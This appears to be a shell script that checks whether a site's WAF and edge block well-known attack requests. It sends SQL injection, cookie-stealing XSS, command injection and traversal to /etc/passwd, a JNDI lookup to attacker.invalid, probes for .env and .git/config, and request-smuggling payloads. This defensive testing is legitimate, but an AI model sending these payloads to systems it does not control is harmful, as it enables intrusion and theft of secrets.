# Requests that attackers send, and which layer answers. AT as in limit.sh. FROM: outside, or inside past the edge.
check="known attacks are stopped"
need curl "$check"
set --
[ -z "${AT:-}" ] || set -- --insecure --resolve "$HOST:443:$AT"
ask "$@" "https://$HOST/"
if [ "$code" = 000 ]; then
    say "not tried" "$check" "$HOST: $(answer)"
    exit 0
fi
size() { if [ -r "${WAF_LOG:-}" ]; then wc -c <"$WAF_LOG"; else echo 0; fi; }
judge() {
    if [ "$layer" = nginx ] && [ "$(size)" != "$before" ]; then layer=ModSecurity; fi
    case $layer:$code in
        nobody:*) say passed "$1" "the connection was closed" ;;
        "the application":5??) say failed "$1" "$(answer)" ;;
        "the application":*) if [ "$FROM" = inside ]; then say seen "$1" "$(answer)"; else say failed "$1" "$(answer)"; fi ;;
        "the login":*|*:4??|"the edge":52?|*:50[15]) say passed "$1" "$(answer)" ;;
        *) say failed "$1" "$(answer)" ;;
    esac
}
try() {
    name=$1
    shift
    before=$(size)
    ask "$@"
    judge "$FROM: $name"
}
site=https://$HOST
try "injection of SQL" "$@" "$site/Items?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--"
try "injection of a script" "$@" "$site/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
try "injection of a command" "$@" "$site/?file=;cat%20/etc/passwd"
try "injection of a lookup" "$@" --header 'X-Api-Version: ${jndi:ldap://attacker.invalid/a}' "$site/"
try "traversal" "$@" --path-as-is "$site/../../../../etc/passwd"
try "traversal, encoded" "$@" --path-as-is "$site/web/..%2f..%2f..%2f..%2fetc%2fpasswd"
try "a file of secrets" "$@" "$site/.env"
try "a repository" "$@" "$site/.git/config"
try "the login of another program" "$@" "$site/wp-login.php"
try "the method TRACE" "$@" --request TRACE "$site/"
try "an unknown method" "$@" --request BREAK "$site/"
try "a header of 70 kB" "$@" --header "X-Long: $(awk 'BEGIN { while (n++ < 70000) printf "a" }')" "$site/"

# raw NAME TEXT: what curl would not send. TEXT is a format of printf.
raw() {
    before=$(size)
    # shellcheck disable=SC2059
    printf "$2" "$HOST" >"$work/request"
    at=$HOST
    [ -z "${AT:-}" ] || at=$AT
    : >"$work/head"
    { cat "$work/request"; sleep 3; } | openssl s_client -quiet -connect "$at:443" -servername "$HOST" 2>/dev/null | head -c 20000 >"$work/body"
    tr -d '\r' <"$work/body" | sed '/^$/q' >"$work/head"
    code=$(sed -n '1s/^HTTP[^ ]* \([0-9]*\).*/\1/p' "$work/head")
    code=${code:-000} why="it was closed" layer=$(layer_of)
    judge "$FROM: $1"
}
if have openssl; then
    raw "two names of a host" 'GET / HTTP/1.1\r\nHost: %s\r\nHost: other.invalid\r\nConnection: close\r\n\r\n'
    raw "two lengths of a body" 'POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nX'
    raw "a broken request" 'GET /%%00 HTTP/1.1 x\r\nHost: %s\r\n\r\n'
else say "not tried" "$FROM: malformed requests" "openssl is missing on this machine"; fi
